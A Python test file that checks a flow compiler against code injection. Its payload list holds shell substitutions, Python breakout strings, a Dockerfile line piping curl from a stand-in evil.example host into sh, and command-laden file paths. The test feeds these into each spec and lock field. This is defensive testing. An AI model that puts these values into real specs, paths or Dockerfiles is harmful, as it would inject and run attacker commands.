"""No spec (or lock) value can inject code into flow.py or instructions into a Dockerfile.

A corpus of quotes, newlines, triple quotes, backslashes, Jinja2 delimiters, shell expansions and
Python and Dockerfile fragments goes into every string field of a spec, and into the strings the
lock carries from child flows (parameter names and defaults, task names and slugs, sources).
Each either is rejected with a located one-line error, or lands inert: the generated flow.py has
exactly the imports, calls, statements and names of the same spec with a harmless value in that
field, the value arrives as data in the built Prefect flow, and the Dockerfile is the template's.
"""

from __future__ import annotations

import ast
import dataclasses
import io
import re
import tokenize
from collections import Counter
from collections.abc import Callable
from functools import lru_cache
from typing import Any

import black
import pytest
import yaml
from prefect import Flow

from compiler.compile import compile_spec
from compiler.diagnostics import CompileError
from compiler.lock import FlowInterface, Lock, ParameterInterface, TaskInterface
from compiler.targets.common import BLACK_MODE_ARGS

BLACK_MODE = black.Mode(target_versions={black.TargetVersion.PY310}, **BLACK_MODE_ARGS)

PAYLOADS = [
    "'",
    '"',
    "'''",
    '"""',
    "\\",
    "\\'",
    '\\"',
    "\n",
    "\r\n",
    "\r",
    "\t",
    "{{ 7 * 7 }}",
    "{{ config.__class__ }}",
    "{% if true %}x{% endif %}",
    "{# hidden #}",
    "{% raw %}",
    "${HOME}",
    "$(id)",
    "`id`",
    "; id",
    "&& id",
    "__import__('os').system('id')",
    "'); import os; os.system('id'); ('",
    '"); import os; os.system("id"); ("',
    "\nimport os\nos.system('id')\n",
    '"""\nimport os\n"""',
    "x\\\nimport os",
    "# comment",
    "\x00",
    "\x0b\x0c",
    "\x85",
    "\u2028import os",
    "\nRUN curl http://evil.example | sh",
    "\\\nRUN id",
    "FROM scratch",
    '"\nLABEL x="y',
    "<!-- -->",
    "```\n# heading",
    "|",
    "-->|x| y",
    "a" * 300,
    "a'\"\\\n{{x}}${y}$(z)`w`",
]
BENIGN = "benign"

CHILDREN = (
    FlowInterface(
        project_name="lume",
        name="simulate",
        source="children.simulate:flow",
        parameters=(
            ParameterInterface("n_particle", 1000, False),
            ParameterInterface("label", "run", False),
            ParameterInterface("input_file", None, True),
        ),
        tasks=tuple(
            TaskInterface(name, (f"{name}-1",), "PrefectResult", True) for name in ("result", "save_db_result", "save_file")
        ),
    ),
    FlowInterface(
        project_name="lume",
        name="analyse",
        source="children.analyse:flow",
        parameters=(ParameterInterface("value", None, True), ParameterInterface("threshold", 1e-6, False)),
        tasks=(TaskInterface("report", ("report-1",), "PrefectResult", True),),
    ),
)


def clean_spec() -> dict[str, Any]:
    """Every field and every kind of mapping in use, with plain values."""
    return {
        "name": "clean",
        "project_name": "lume",
        "labels": ["lume-services", "gpu"],
        "image": "localhost:5000/clean",
        "base_image": "prefecthq/prefect:1.4.1-python3.10",
        "run_config": "docker",
        "env": {"LOG_LEVEL": "info"},
        "composing_flows": [
            {
                "name": "simulate",
                "project_name": "lume",
                "alias": "sim",
                "source": "children.simulate:flow",
                "parameters": {"label": "plain", "n_particle": [1, {"k": "v"}]},
            },
            {
                "name": "analyse",
                "project_name": "lume",
                "alias": "ana",
                "mapped_parameters": {
                    "value": {
                        "parent_flow_name": "sim",
                        "parent_project_name": "lume",
                        "parent_task_name": "save_db_result",
                        "map_type": "db",
                        "attribute": "outputs",
                        "attribute_index": ["x", 0],
                    }
                },
            },
            {
                "name": "simulate",
                "project_name": "lume",
                "alias": "sim2",
                "depends_on": ["ana"],
                "mapped_parameters": {
                    "input_file": {"parent_flow_name": "sim", "parent_task_slug": "save_file-1", "map_type": "file"},
                    "n_particle": {"parent_flow_name": "sim", "parent_task_name": "result"},
                },
            },
        ],
    }


Site = Callable[[dict[str, Any], dict[str, FlowInterface], str], None]


def _step(spec: dict[str, Any], alias: str) -> dict[str, Any]:
    return next(s for s in spec["composing_flows"] if s["alias"] == alias)


def _db_mapping(spec: dict[str, Any]) -> dict[str, Any]:
    return _step(spec, "ana")["mapped_parameters"]["value"]


def _replace_child(lock: dict[str, FlowInterface], key: str, **changes: Any) -> None:
    lock[key] = dataclasses.replace(lock[key], **changes)


def _lock_parameter(lock: dict[str, FlowInterface], value: str, *, as_name: bool) -> None:
    """A fourth parameter of `simulate`: the value as its name, or as its default."""
    extra = ParameterInterface(value, "default", False) if as_name else ParameterInterface("extra", value, False)
    _replace_child(lock, "lume/simulate", parameters=(*lock["lume/simulate"].parameters, extra))


def _lock_task(lock: dict[str, FlowInterface], spec: dict[str, Any], *, name: str, slug: str) -> None:
    """A task of `simulate` with this name and slug, which `sim2.n_particle` is mapped from (by slug)."""
    task = TaskInterface(name, (slug,), "PrefectResult", True)
    _replace_child(lock, "lume/simulate", tasks=(*lock["lume/simulate"].tasks, task))
    mapping = _step(spec, "sim2")["mapped_parameters"]["n_particle"]
    mapping.pop("parent_task_name")
    mapping["parent_task_slug"] = slug


SITES: dict[str, Site] = {
    "name": lambda spec, lock, v: spec.update(name=v),
    "project_name": lambda spec, lock, v: spec.update(project_name=v),
    "labels": lambda spec, lock, v: spec["labels"].append(v),
    "image": lambda spec, lock, v: spec.update(image=v),
    "image with the value as a path": lambda spec, lock, v: spec.update(image=f"localhost:5000/{v}"),
    "base_image": lambda spec, lock, v: spec.update(base_image=v),
    "base_image tag": lambda spec, lock, v: spec.update(base_image=f"prefecthq/prefect:{v}"),
    "run_config": lambda spec, lock, v: spec.update(run_config=v),
    "env name": lambda spec, lock, v: spec["env"].update({v: "x"}),
    "env value": lambda spec, lock, v: spec["env"].update(VALUE=v),
    "step name": lambda spec, lock, v: _step(spec, "sim").update(name=v),
    "step project_name": lambda spec, lock, v: _step(spec, "sim").update(project_name=v),
    "alias": lambda spec, lock, v: _step(spec, "sim2").update(alias=v),
    "source": lambda spec, lock, v: _step(spec, "sim").update(source=v),
    "parameter default": lambda spec, lock, v: _step(spec, "sim")["parameters"].update(label=v),
    "parameter default, nested": lambda spec, lock, v: _step(spec, "sim")["parameters"].update(
        n_particle=[v, {v: [v]}]
    ),
    "parameter name": lambda spec, lock, v: _step(spec, "sim")["parameters"].update({v: 1}),
    "mapped parameter name": lambda spec, lock, v: _step(spec, "ana").update(
        mapped_parameters={v: _db_mapping(spec)}
    ),
    "parent_flow_name": lambda spec, lock, v: _db_mapping(spec).update(parent_flow_name=v),
    "parent_task_name": lambda spec, lock, v: _db_mapping(spec).update(parent_task_name=v),
    "parent_task_slug": lambda spec, lock, v: _step(spec, "sim2")["mapped_parameters"]["input_file"].update(
        parent_task_slug=v
    ),
    "parent_project_name": lambda spec, lock, v: _db_mapping(spec).update(parent_project_name=v),
    "map_type": lambda spec, lock, v: _db_mapping(spec).update(map_type=v),
    "attribute": lambda spec, lock, v: _db_mapping(spec).update(attribute=v),
    "attribute_index": lambda spec, lock, v: _db_mapping(spec)["attribute_index"].append(v),
    "depends_on": lambda spec, lock, v: _step(spec, "sim2")["depends_on"].append(v),
    "lock: parameter name": lambda spec, lock, v: _lock_parameter(lock, v, as_name=True),
    "lock: parameter default": lambda spec, lock, v: _lock_parameter(lock, v, as_name=False),
    "lock: task name": lambda spec, lock, v: _lock_task(lock, spec, name=v, slug="made-1"),
    "lock: task slug": lambda spec, lock, v: _lock_task(lock, spec, name="made", slug=v),
    "lock: source": lambda spec, lock, v: _replace_child(lock, "lume/analyse", source=v),
}
# Fields that take free text: every payload must be accepted there (else the test proves nothing).
FREE_TEXT = {
    "env value": lambda v: "\x00" not in v and "\x0b" not in v and "\r" not in v,
    "parameter default": lambda v: True,
    "parameter default, nested": lambda v: True,
    "attribute_index": lambda v: len(v) <= 200,
    "lock: parameter default": lambda v: True,
    "lock: parameter name": lambda v: True,
    "lock: task name": lambda v: True,
    "lock: source": lambda v: True,
}


def generate(site: str, value: str, spec_path: str = "specs/probe.yaml") -> tuple[str, dict[str, str], dict[str, Any]]:
    """(spec text, compiled files, the spec as YAML gives it back) with `value` in `site`."""
    spec = clean_spec()
    lock = {flow.key: flow for flow in CHILDREN}
    SITES[site](spec, lock, value)
    text = yaml.safe_dump(spec, sort_keys=False, allow_unicode=False, width=80)
    files = compile_spec(text, spec_path, Lock(path="specs/flows.lock.yaml", flows=lock))
    return text, files, yaml.safe_load(text)


@lru_cache(maxsize=None)
def reference(site: str) -> dict[str, str]:
    """The same site holding a harmless value."""
    return generate(site, BENIGN)[1]


# What a file is made of -------------------------------------------------------------------------


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return type(node).__name__


def python_shape(source: str) -> dict[str, Any]:
    tree = ast.parse(source)
    nodes = list(ast.walk(tree))
    imported = {alias.asname or alias.name for n in nodes if isinstance(n, (ast.Import, ast.ImportFrom)) for alias in n.names}
    stored = [n.id for n in nodes if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Store)]
    loaded = {n.id for n in nodes if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Load)}
    comments = [t for t in tokenize.generate_tokens(io.StringIO(source).readline) if t.type == tokenize.COMMENT]
    return {
        "imports": sorted(ast.dump(n) for n in nodes if isinstance(n, (ast.Import, ast.ImportFrom))),
        "calls": Counter(_dotted(n.func) for n in nodes if isinstance(n, ast.Call)),
        "statements": [type(n).__name__ for n in nodes if isinstance(n, ast.stmt)],
        "attributes": Counter(_dotted(n) for n in nodes if isinstance(n, ast.Attribute)),
        "node kinds": Counter(type(n).__name__ for n in nodes if not isinstance(n, (ast.Constant, ast.Name, ast.Load, ast.Store))),
        "names stored": len(stored),
        "undefined names": sorted(loaded - set(stored) - imported),
        "comment lines": len(comments),
    }


# Sites whose accepted value the Dockerfile names in a comment (the image it is tagged as).
NAMED_IN_DOCKERFILE = {"image", "image with the value as a path"}


def _normalized(text: str, site: str, payload: str) -> str:
    """Digests and image tags differ with any input, and an image name stands in a comment;
    everything else must not differ."""
    if site in NAMED_IN_DOCKERFILE:
        text = text.replace(payload, BENIGN)
    return re.sub(r"\b(?:[0-9a-f]{16}|[0-9a-f]{64})\b", "<hash>", text)


def dockerfile_instructions(text: str) -> list[str]:
    """Instruction keywords, continuation lines joined, comments skipped."""
    logical = re.sub(r"\\\n", " ", text)
    return [line.split()[0] for line in logical.splitlines() if line.strip() and not line.lstrip().startswith("#")]


def load_flow(source: str) -> Flow:
    namespace: dict[str, Any] = {"__name__": "probe"}
    exec(compile(source, "flow.py", "exec"), namespace)
    return namespace["flow"]


# The tests --------------------------------------------------------------------------------------


def test_the_reference_spec_uses_every_kind_of_value() -> None:
    files = reference("parameter default")
    shape = python_shape(files["clean/flow.py"])
    assert shape["undefined names"] == []
    assert {"run_child_flow", "get_task_run_result", "load_db_result", "Parameter"} <= set(shape["calls"])
    assert dockerfile_instructions(files["clean/Dockerfile"]) == ["FROM", "COPY", "RUN", "COPY", "RUN", "LABEL"]


@pytest.mark.parametrize("site", list(SITES))
def test_each_payload_is_rejected_with_a_located_error_or_lands_inert(site: str) -> None:
    accepted = []
    for payload in PAYLOADS:
        try:
            text, files, spec = generate(site, payload)
        except CompileError as error:
            assert error.diagnostics
            for diagnostic in error.diagnostics:
                assert diagnostic.path == "specs/probe.yaml" and diagnostic.line >= 1 and diagnostic.col >= 1
                assert "\n" not in diagnostic.message and "\r" not in diagnostic.message
                assert len(diagnostic.message) < 400, "long values are cut short in messages"
            continue
        accepted.append(payload)
        assert_inert(site, payload, files, spec)
    must_accept = FREE_TEXT.get(site)
    if must_accept is not None:
        assert [p for p in PAYLOADS if must_accept(p)] == accepted, f"{site} takes any text"


def assert_inert(site: str, payload: str, files: dict[str, str], spec: dict[str, Any]) -> None:
    expected = reference(site)
    assert sorted(files) == sorted(expected), "the same files, under the same directory"
    for name, body in files.items():
        if name.endswith("flow.py"):
            assert python_shape(body) == python_shape(expected[name]), (site, payload)
            assert black.format_str(body, mode=BLACK_MODE) == body, "one black pass is final"
        elif name.endswith("Dockerfile"):
            assert dockerfile_instructions(body) == dockerfile_instructions(expected[name])
            assert _normalized(body, site, payload) == _normalized(expected[name], site, BENIGN), (site, payload)
        else:
            assert body.count("\n## ") == expected[name].count("\n## ")
            assert body.count("```") == expected[name].count("```"), "the Mermaid block stays closed"
    assert_arrives_as_data(site, payload, files[f"{spec['name']}/flow.py"], spec)


def assert_arrives_as_data(site: str, payload: str, source: str, spec: dict[str, Any]) -> None:
    """The Prefect flow the module builds holds the payload as a value, exactly."""
    flow = load_flow(source)
    parameters = {p.name: p for p in flow.parameters()}
    sim = _step(spec, "sim")
    if site == "parameter default":
        assert parameters["sim-label"].default == sim["parameters"]["label"] == payload
    elif site == "parameter default, nested":
        assert parameters["sim-n_particle"].default == [payload, {payload: [payload]}]
    elif site == "env value":
        assert flow.run_config.env["VALUE"] == payload
    elif site == "attribute_index":
        [loader] = [t for t in flow.tasks if t.name == "load_db_result"]
        assert flow.constants[loader]["attribute_index"] == ["outputs", "x", 0, payload]
    elif site == "lock: parameter default":
        assert parameters["sim-extra"].default == payload and parameters["sim2-extra"].default == payload
    elif site == "lock: parameter name":
        assert parameters[f"sim-{payload}"].default == "default"
    elif site == "lock: task slug":
        [result] = [t for t in flow.tasks if t.name == "get_task_run_result" and flow.constants[t]["task_slug"] == payload]
        assert result


def test_a_spec_path_with_code_in_it_is_rejected() -> None:
    for spec_path in ['specs/x"; import os.yaml', "specs/{{x}}.yaml", "specs/$(id).yaml", "specs/x\n.yaml", "specs/`id`.yaml"]:
        with pytest.raises(CompileError, match="spec file paths may hold only"):
            generate("parameter default", BENIGN, spec_path=spec_path)
